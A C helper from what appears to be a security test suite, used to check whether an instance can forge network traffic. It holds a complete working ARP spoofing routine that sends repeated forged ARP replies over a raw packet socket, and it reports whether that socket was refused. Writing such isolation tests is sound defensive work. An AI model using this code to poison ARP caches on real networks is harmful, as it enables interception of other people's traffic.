/* test/helpers/forge.c: what an attacker inside an instance runs (test/security). Static, no libc
 * beyond what glibc links statically.
 *   forge arp IFACE CLAIMED_IP TARGET_IP COUNT TARGET_MAC
 *       sends COUNT ARP replies (every 100 ms), unicast to TARGET_MAC, telling TARGET_IP that
 *       CLAIMED_IP is at this interface's MAC
 * Exit 0 when every packet was sent, 13 when the socket is refused (no CAP_NET_RAW), 1 otherwise. */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <linux/if_packet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static int fail(const char *what) {
  int e = errno;
  fprintf(stderr, "%s: %s\n", what, strerror(e));
  return (e == EPERM || e == EACCES) ? 13 : 1;
}

int main(int argc, char **argv) {
  if (argc < 7) { fprintf(stderr, "usage: forge arp IFACE CLAIMED_IP TARGET_IP COUNT TARGET_MAC\n"); return 2; }
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (s < 0) return fail("socket(AF_PACKET)");
  struct ifreq ifr; memset(&ifr, 0, sizeof ifr);
  strncpy(ifr.ifr_name, argv[2], IFNAMSIZ - 1);
  if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) return fail("SIOCGIFHWADDR");
  unsigned char mac[6]; memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
  struct sockaddr_ll to; memset(&to, 0, sizeof to);
  to.sll_family = AF_PACKET; to.sll_ifindex = if_nametoindex(argv[2]); to.sll_halen = 6;
  unsigned char dst[6];
  if (sscanf(argv[6], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dst[0], &dst[1], &dst[2], &dst[3], &dst[4], &dst[5]) != 6) { fprintf(stderr, "bad MAC %s\n", argv[6]); return 2; }
  memcpy(to.sll_addr, dst, 6);
  unsigned char frame[128]; memset(frame, 0, sizeof frame);
  struct ether_header *eh = (struct ether_header *)frame;
  memcpy(eh->ether_dhost, dst, 6); memcpy(eh->ether_shost, mac, 6);
  if (strcmp(argv[1], "arp") == 0) {
    eh->ether_type = htons(ETHERTYPE_ARP);
    struct ether_arp *a = (struct ether_arp *)(frame + sizeof *eh);
    a->arp_hrd = htons(ARPHRD_ETHER); a->arp_pro = htons(ETHERTYPE_IP); a->arp_hln = 6; a->arp_pln = 4;
    a->arp_op = htons(ARPOP_REPLY);
    memcpy(a->arp_sha, mac, 6); inet_pton(AF_INET, argv[3], a->arp_spa);
    memcpy(a->arp_tha, dst, 6); inet_pton(AF_INET, argv[4], a->arp_tpa);
    int n = atoi(argv[5]);
    for (int i = 0; i < n; i++) {
      if (sendto(s, frame, sizeof *eh + sizeof *a, 0, (struct sockaddr *)&to, sizeof to) < 0) return fail("sendto");
      usleep(100000);
    }
    return 0;
  }
  fprintf(stderr, "unknown mode %s\n", argv[1]);
  return 2;
}
